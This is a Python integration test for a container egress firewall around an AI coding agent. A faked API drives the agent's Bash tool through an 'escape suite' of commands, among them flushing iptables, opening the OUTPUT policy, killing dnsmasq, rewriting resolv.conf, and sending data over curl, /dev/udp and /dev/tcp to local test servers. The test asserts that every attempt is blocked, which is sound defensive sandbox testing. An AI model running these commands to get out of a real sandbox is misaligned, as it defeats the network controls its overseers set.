"""The egress firewall in real containers: real iptables, ipset and dnsmasq, the product image
and entrypoint, and a test "internet" of our own (an authoritative DNS server on the bridge
gateway and HTTP/UDP server containers). No outside host is ever contacted.

Each session is started through the product's run plan (same capabilities, no-new-privileges,
entrypoint) with the container's resolver pointed at the test DNS server; the agent's commands
run exactly as the entrypoint runs the agent (setpriv: its uid, no capabilities).
"""

from __future__ import annotations

from pathlib import Path

# --- the escape suite, run by Claude Code's own Bash tool -----------------------------------------


def test_escape_suite_through_claude_codes_bash_tool(tmp_path, cd_home, docker_client, servers, gateway):
    """The agent itself tries every way out; each attempt must be held and egress stay closed."""
    from tests.fakes.anthropic import FakeAnthropic, bash, text
    from tests.fakes.projects import make_project, run_cli

    gamma = servers["gamma"]
    upstream = next(
        line.split()[1] for line in Path("/etc/resolv.conf").read_text().splitlines() if line.startswith("nameserver")
    )
    attempts = {
        "flush": "iptables -F",
        "policy": "iptables -P OUTPUT ACCEPT",
        "ipv6": "ip6tables -P OUTPUT ACCEPT",
        "ipset": f"ipset add cd-dns {gamma.address()}",
        "kill-dnsmasq": "kill -9 $(cat /run/claude-docker-firewall/dnsmasq.pid)",
        "resolver": "echo nameserver 1.1.1.1 > /etc/resolv.conf",
        "tcp": f"curl -sS -m 3 http://{gamma.address()}/",
        "udp": f"echo leak > /dev/udp/{gamma.address()}/9999",
        "dns-name": "getent hosts example.com",
        "dns-upstream": f"exec 3<>/dev/tcp/{upstream}/53",
        "dns-other": f"echo query > /dev/udp/{gamma.address()}/53",
        # perl-base is in every Debian image (the default image has no Python)
        "ping-socket": "perl -MSocket -e 'socket(my $s, PF_INET, SOCK_DGRAM, getprotobyname(\"icmp\")) or die'",
    }
    command = "; ".join(
        f"( {attempt} ) >/dev/null 2>&1 && echo ESCAPED-{name} || echo held-{name}" for name, attempt in attempts.items()
    )
    config = make_project(tmp_path, "network:\n  allow_host_network: true\n", firewall=True)
    before = gamma.udp_count()
    with FakeAnthropic([bash(command + "; echo SUITE-DONE"), text("The sandbox held.")]) as api:
        env = {"ANTHROPIC_BASE_URL": api.url_for(gateway), "ANTHROPIC_API_KEY": api.api_key}
        result = run_cli("up", "-f", str(config), "--", "-p", "try to get out", env=env, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    [block] = api.tool_results()
    output = json_text(block.get("content"))
    assert "SUITE-DONE" in output, output
    assert "ESCAPED-" not in output, output
    assert all(f"held-{name}" in output for name in attempts), output
    assert gamma.udp_count() == before


def json_text(content) -> str:
    """A tool_result's content: a string, or a list of text blocks."""
    if isinstance(content, str):
        return content
    return "\n".join(block.get("text", "") for block in content or [] if isinstance(block, dict))
